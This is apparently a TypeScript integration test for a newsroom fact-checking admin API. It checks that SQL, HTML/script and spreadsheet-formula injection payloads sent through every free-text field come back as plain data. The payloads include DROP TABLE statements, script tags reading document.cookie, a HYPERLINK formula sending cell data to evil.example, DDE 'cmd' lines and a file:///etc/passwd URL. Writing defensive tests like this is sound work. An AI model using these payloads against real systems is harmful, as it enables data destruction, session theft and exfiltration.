import { DomUtils, parseDocument } from 'htmlparser2';
import { type Actor } from '@marginalia/domain';
import { startAdminApi, type RunningAdminApi, users } from '../support/admin-api';
import { parseCsv } from '../support/csv';
import { Callers, otherStandardsEditor, settled, verdictBody } from './support/newsroom-fixture';
import { call, problemCodeOf } from './support/openapi';

/** Payloads that would change a query if text were ever pasted into SQL. */
const SQL = [
  `'; DROP TABLE events;--`,
  `" OR 1=1 --`,
  `1' OR '1'='1`,
  `Robert'); DROP TABLE claims;--`,
  `%' OR 1=1 --`,
  `'; UPDATE events SET data = '{}';--`,
];
/** Payloads that would run or inject markup if text were ever written into HTML unescaped. */
const HTML = [
  `<script>alert(1)</script>`,
  `"><img src=x onerror=alert(1)>`,
  `<svg/onload=alert(1)>`,
  `</mark></div><script>alert(document.cookie)</script>`,
  `' onmouseover='alert(1)' x='`,
  `<a href="javascript:alert(1)">点我</a>`,
  `<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>`,
  `<style>body{display:none}</style><!--`,
  `&lt;b&gt;已转义&lt;/b&gt; &amp;`,
];
/** Payloads that a spreadsheet would run as formulas (OWASP CSV injection). */
const CSV = [
  `=HYPERLINK("https://evil.example/?x="&A1,"点击")`,
  `+cmd|' /C calc'!A0`,
  `-1+1`,
  `@SUM(1+1)*cmd|' /C calc'!A0`,
  `\t=1+1`,
  `=1+1,"逗号",\n换行`,
];
/** A capture turns CR into LF, so this one goes into a reason only. */
const REIMPORT_REASON = `\r=1+1 回车开头`;
/** What can stand in an article's text (a capture changes CR, so none of these has one). */
const PAYLOADS = [...SQL, ...HTML, ...CSV];
const FORMULA_START = /^[=+\-@\t\r]/;

/** An editor whose user id and name are payloads too: the actor column of the exports. */
const formulaEditor: Actor = {
  sub: `=HYPERLINK("https://evil.example","editor")`,
  name: `<img src=x onerror=alert("name")>`,
  roles: ['editor'],
};

/** One line per payload, after a line number, so that each can be found by its position. */
function articleText(): {
  content: string;
  lines: Array<{ payload: string; start: number; end: number }>;
} {
  let content = '说明：以下每一行都是恶意输入的样本，系统必须把它们当作普通文字。\n';
  const lines = PAYLOADS.map((payload, index) => {
    content += `第${index + 1}行：`;
    const start = [...content].length;
    content += payload;
    const end = [...content].length;
    content += '\n';
    return { payload, start, end };
  });
  return { content, lines };
}

describe('injection through every free-text field', () => {
  let api: RunningAdminApi;
  let callers: Callers;
  let articleId: string;
  let claimIds: string[];
  let publishedCorrectionId: string;
  const { content, lines } = articleText();

  beforeAll(async () => {
    api = await startAdminApi({ RATE_LIMIT_PER_MINUTE: '1000000' });
    callers = await Callers.of(api, [otherStandardsEditor, formulaEditor]);
    const article = await callers.ok<{ id: string }>(formulaEditor.sub, 'POST', '/v1/articles', {
      title: `${HTML[0]}${SQL[0]}${CSV[0]}`,
      language: 'zh-Hans',
      format: 'text',
      content,
      source: {
        url: `https://news.example/2024/injection?q=%27%3B%20DROP%20TABLE%20events`,
        publisher: CSV[1],
        publishedAt: '2024-03-08T10:29:15+08:00',
      },
      externalId: SQL[1],
    });
    articleId = article.id;
    // A claim on each payload's line, described by the payload in every text field.
    claimIds = [];
    for (const [index, line] of lines.entries()) {
      const claim = await callers.ok<{ id: string }>(
        'fact_checker',
        'POST',
        `/v1/articles/${articleId}/claims`,
        {
          selector: { start: line.start, end: line.end },
          statement: line.payload,
          claimant: PAYLOADS[(index + 1) % PAYLOADS.length],
          topics: [line.payload, `话题${index}`],
        },
      );
      claimIds.push(claim.id);
    }
    // The first claim gets a published verdict whose every text is a payload.
    const [first, second, third] = claimIds as [string, string, string];
    await callers.ok('editor', 'POST', `/v1/claims/${first}/assignment`, {
      assignee: users.fact_checker.sub,
    });
    const verdict = {
      ...verdictBody,
      summary: HTML[1],
      rationale: PAYLOADS.join('\n'),
      sources: [{ ...verdictBody.sources[0]!, title: HTML[0], quote: CSV[0] }],
    };
    await callers.ok('fact_checker', 'POST', `/v1/claims/${first}/verdict`, verdict);
    await callers.ok('fact_checker', 'POST', `/v1/claims/${first}/verdict/submit`);
    await callers.ok('standards_editor', 'POST', `/v1/claims/${first}/verdict/reject`, {
      reason: CSV[1],
    });
    await callers.ok('fact_checker', 'POST', `/v1/claims/${first}/verdict/submit`);
    await callers.ok('standards_editor', 'POST', `/v1/claims/${first}/verdict/approve`);
    await callers.ok('standards_editor', 'POST', `/v1/claims/${first}/verdict/retract`, {
      reason: CSV[2],
    });
    await callers.ok('fact_checker', 'POST', `/v1/claims/${first}/verdict`, verdict);
    await callers.ok('fact_checker', 'POST', `/v1/claims/${first}/verdict/submit`);
    await callers.ok(otherStandardsEditor.sub, 'POST', `/v1/claims/${first}/verdict/approve`);
    await callers.ok(formulaEditor.sub, 'POST', `/v1/claims/${second}/withdrawal`, {
      reason: CSV[0],
    });
    // Corrections: one rejected, one withdrawn (both with payload reasons), one published
    // whose replacement and notice are markup.
    const proposal = (index: number, replacement: string, notice: string) => ({
      selector: { start: lines[index]!.start, end: lines[index]!.end },
      kind: 'correction',
      replacement,
      notice,
      claimId: third,
    });
    const rejected = await callers.ok<{ id: string }>(
      'editor',
      'POST',
      `/v1/articles/${articleId}/corrections`,
      proposal(0, SQL[2]!, CSV[3]!),
    );
    await callers.ok('standards_editor', 'POST', `/v1/corrections/${rejected.id}/reject`, {
      reason: CSV[3],
    });
    const withdrawn = await callers.ok<{ id: string }>(
      'editor',
      'POST',
      `/v1/articles/${articleId}/corrections`,
      proposal(1, CSV[4]!, SQL[3]!),
    );
    await callers.ok(formulaEditor.sub, 'POST', `/v1/corrections/${withdrawn.id}/withdrawal`, {
      reason: CSV[5],
    });
    const published = await callers.ok<{ id: string }>(
      'editor',
      'POST',
      `/v1/articles/${articleId}/corrections`,
      proposal(SQL.length, HTML[3]!, `${HTML[4]}${CSV[0]}`),
    );
    publishedCorrectionId = published.id;
    await callers.ok('standards_editor', 'POST', `/v1/corrections/${published.id}/approve`);
    await settled(api);
    // A re-import whose reason starts with a carriage return, the last formula start of SPEC §8.
    const current = await callers.ok<{ text: string }>(
      'editor',
      'GET',
      `/v1/articles/${articleId}/text`,
    );
    await callers.ok('editor', 'POST', `/v1/articles/${articleId}/revisions`, {
      content: `${current.text}附记：来源页面已更新。\n`,
      reason: REIMPORT_REASON,
    });
    await settled(api);
  });

  afterAll(async () => {
    await api?.stop();
  });

  const get = <T = Record<string, unknown>>(path: string) => callers.ok<T>('auditor', 'GET', path);

  describe('JSON: every payload comes back exactly as sent, as data', () => {
    it('in the article, its text, the claims and the view', async () => {
      const article = await get(`/v1/articles/${articleId}`);
      expect(article).toMatchObject({ title: `${HTML[0]}${SQL[0]}${CSV[0]}`, revision: 3 });
      const first = await get<{ text: string }>(`/v1/articles/${articleId}/text?revision=1`);
      expect(first.text).toBe(content);
      for (const [index, id] of claimIds.entries()) {
        const claim = await get(`/v1/claims/${id}`);
        expect(claim).toMatchObject({
          statement: PAYLOADS[index],
          claimant: PAYLOADS[(index + 1) % PAYLOADS.length],
          topics: [PAYLOADS[index], `话题${index}`],
        });
        expect((claim.anchor as { exact: string }).exact).toBe(PAYLOADS[index]);
      }
      const verdict = (
        await get<{ publishedVerdict: Record<string, unknown> }>(`/v1/claims/${claimIds[0]}`)
      ).publishedVerdict;
      expect(verdict).toMatchObject({ summary: HTML[1], rationale: PAYLOADS.join('\n') });
      const view = await get<{
        notices: Array<{ notice: string }>;
        annotations: Array<{ id: string; statement?: string; replacement?: string }>;
        text: string;
      }>(`/v1/articles/${articleId}/view`);
      expect(view.notices.map((n) => n.notice)).toEqual([`${HTML[4]}${CSV[0]}`]);
      expect(view.text).toContain(`第${SQL.length + 1}行：${HTML[3]}\n`);
      const correction = view.annotations.find((a) => a.id === publishedCorrectionId);
      expect(correction?.replacement).toBe(HTML[3]);
    });

    it('in the histories (JSON and JSON Lines), reasons and actors included', async () => {
      const history = await get<{
        items: Array<{ reason: string | null; actor: { sub: string } }>;
      }>(`/v1/articles/${articleId}/history?limit=500`);
      const reasons = history.items.map((entry) => entry.reason).filter((r) => r !== null);
      expect(reasons).toEqual(
        expect.arrayContaining([CSV[0], CSV[1], CSV[2], CSV[3], CSV[5], REIMPORT_REASON]),
      );
      expect(history.items.map((entry) => entry.actor.sub)).toContain(formulaEditor.sub);
      const jsonl = await call(`${api.url}/v1/articles/${articleId}/history?format=jsonl`, {
        method: 'GET',
        headers: { Authorization: callers.bearer('auditor') },
      });
      const entries = jsonl.text
        .trimEnd()
        .split('\n')
        .map((line) => JSON.parse(line) as unknown);
      expect(entries).toEqual(history.items);
    });
  });

  describe('SQL: the store treats payloads as values', () => {
    it('answers searches and filters with payloads exactly, matching only what contains them', async () => {
      for (const payload of SQL) {
        const found = await get<{ items: Array<{ statement: string }> }>(
          `/v1/claims?articleId=${articleId}&q=${encodeURIComponent(payload)}`,
        );
        expect(found.items.length).toBeGreaterThan(0);
        for (const claim of found.items) expect(claim.statement).toContain(payload);
      }
      // LIKE wildcards are plain characters: only the claims with a % in them.
      const percent = await get<{ items: Array<{ statement: string }> }>(`/v1/claims?q=%25`);
      expect(percent.items.map((claim) => claim.statement)).toEqual([SQL[4]]);
      const nobody = await get<{ items: unknown[] }>(
        `/v1/claims?assignee=${encodeURIComponent(`' OR 1=1 --`)}`,
      );
      expect(nobody.items).toEqual([]);
      const noActor = await get<{ items: unknown[] }>(
        `/v1/articles/${articleId}/history?actor=${encodeURIComponent(`x' OR '1'='1`)}`,
      );
      expect(noActor.items).toEqual([]);
      const badType = await call(
        `${api.url}/v1/articles/${articleId}/history?type=${encodeURIComponent(`ClaimCaptured' OR 1=1 --`)}`,
        { method: 'GET', headers: { Authorization: callers.bearer('auditor') } },
      );
      expect([badType.status, problemCodeOf(badType)]).toEqual([400, 'validation_failed']);
    });

    it('still has every table and every event, with intact chains and read models', async () => {
      const all = await get<{ items: unknown[]; lastPosition: number }>('/v1/events?limit=500');
      expect(all.items.length).toBe(all.lastPosition);
      expect(await settled(api)).toBe(all.lastPosition);
      const claims = await get<{ items: unknown[] }>(`/v1/claims?articleId=${articleId}&limit=500`);
      expect(claims.items).toHaveLength(PAYLOADS.length);
      const integrity = await get<{ ok: boolean }>('/v1/admin/integrity');
      expect(integrity).toMatchObject({ ok: true });
    });
  });

  describe('HTML: the view shows payloads as text, never as markup', () => {
    /** The elements and attributes a page of the renderer may have; anything else came from input. */
    const RENDERED_TAGS = new Set([
      'html',
      'head',
      'meta',
      'title',
      'style',
      'body',
      'article',
      'h1',
      'h2',
      'section',
      'ol',
      'li',
      'strong',
      'small',
      'div',
      'mark',
      'span',
    ]);

    async function checkPage(path: string, expectedText: string[]) {
      const answer = await call(`${api.url}${path}`, {
        method: 'GET',
        headers: { Authorization: callers.bearer('auditor'), Accept: 'text/html' },
      });
      expect(answer.status).toBe(200);
      expect(answer.headers['content-type']).toMatch(/^text\/html/);
      const page = parseDocument(answer.text);
      const elements = DomUtils.findAll(() => true, page.children);
      const tags = new Set(elements.map((element) => element.name));
      expect([...tags].filter((tag) => !RENDERED_TAGS.has(tag))).toEqual([]);
      // One stylesheet, the renderer's own, before any input.
      expect(elements.filter((element) => element.name === 'style')).toHaveLength(1);
      for (const element of elements) {
        for (const [name, value] of Object.entries(element.attribs)) {
          expect({ tag: element.name, name }).not.toEqual({
            tag: element.name,
            name: expect.stringMatching(/^on/i),
          });
          expect(['href', 'src', 'srcdoc', 'action', 'formaction']).not.toContain(name);
          expect(value).not.toMatch(/^\s*javascript:/i);
        }
      }
      const text = DomUtils.textContent(page);
      for (const payload of expectedText) expect(text).toContain(payload);
      return answer.text;
    }

    it('in the live view: title, text, statements, ratings, replacement and notices', async () => {
      await checkPage(`/v1/articles/${articleId}/view`, [
        `${HTML[0]}${SQL[0]}${CSV[0]}`,
        ...HTML,
        `${HTML[4]}${CSV[0]}`,
      ]);
    });

    it('in a replayed view of the first revision', async () => {
      const history = await get<{ items: Array<{ type: string; position: number }> }>(
        `/v1/articles/${articleId}/history?type=ArticleRevised`,
      );
      const firstRevision = history.items[0]!.position;
      const page = await checkPage(`/v1/articles/${articleId}/view?at=${firstRevision - 1}`, [
        ...HTML,
      ]);
      expect(page).toContain('data-revision="1"');
    });
  });

  describe('CSV: the exports cannot run a formula in a spreadsheet', () => {
    async function exported(path: string): Promise<string[][]> {
      const answer = await call(`${api.url}${path}?format=csv`, {
        method: 'GET',
        headers: { Authorization: callers.bearer('auditor') },
      });
      expect(answer.status).toBe(200);
      expect(answer.headers['content-type']).toMatch(/^text\/csv/);
      return parseCsv(answer.text);
    }

    function checkCells(rows: string[][]) {
      expect(rows[0]).toEqual([
        'position',
        'recordedAt',
        'streamId',
        'revision',
        'type',
        'actor',
        'reason',
        'correlationId',
        'causationId',
        'data',
      ]);
      for (const row of rows) {
        expect(row).toHaveLength(10);
        for (const cell of row) expect(cell).not.toMatch(FORMULA_START);
      }
    }

    it('prefixes every cell that starts a formula with a quote, in every history', async () => {
      const rows = await exported(`/v1/articles/${articleId}/history`);
      checkCells(rows);
      expect(rows.length).toBeGreaterThan(PAYLOADS.length);
      const reasons = rows.slice(1).map((row) => row[6]);
      for (const reason of [CSV[0], CSV[1], CSV[2], CSV[3], CSV[5], REIMPORT_REASON]) {
        expect(reasons).toContain(`'${reason}`);
      }
      const actors = rows.slice(1).map((row) => row[5]);
      expect(actors).toContain(`'${formulaEditor.sub}`);
      // The data cell is the event's JSON, whole: the payloads inside it survive unchanged.
      const captured = rows.filter((row) => row[4] === 'ClaimCaptured');
      expect(captured).toHaveLength(PAYLOADS.length);
      for (const [index, row] of captured.entries()) {
        expect(JSON.parse(row[9]!)).toMatchObject({ statement: PAYLOADS[index] });
      }
      checkCells(await exported(`/v1/claims/${claimIds[0]}/history`));
      checkCells(await exported(`/v1/corrections/${publishedCorrectionId}/history`));
    });
  });

  it('refuses a script URL wherever a URL is taken (400), appending nothing', async () => {
    const head = await settled(api);
    for (const url of [
      'javascript:alert(1)',
      'JavaScript:alert(document.cookie)//https://news.example/',
      ' javascript:alert(1)',
      'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
      'vbscript:msgbox(1)',
      'file:///etc/passwd',
    ]) {
      const imported = await callers.send('editor', 'POST', '/v1/articles', {
        title: '脚本链接',
        language: 'zh-Hans',
        format: 'text',
        content: '正文',
        source: { url },
      });
      expect({ url, status: imported.status, errors: imported.body.errors }).toEqual({
        url,
        status: 400,
        errors: [{ field: 'source.url', message: expect.any(String) }],
      });
      const drafted = await callers.send(
        'fact_checker',
        'POST',
        `/v1/claims/${claimIds[3]}/verdict`,
        {
          ...verdictBody,
          sources: [{ ...verdictBody.sources[0]!, url }],
        },
      );
      expect({ url, status: drafted.status, errors: drafted.body.errors }).toEqual({
        url,
        status: 400,
        errors: [{ field: 'sources[0].url', message: expect.any(String) }],
      });
    }
    expect(await settled(api)).toBe(head);
  });
});
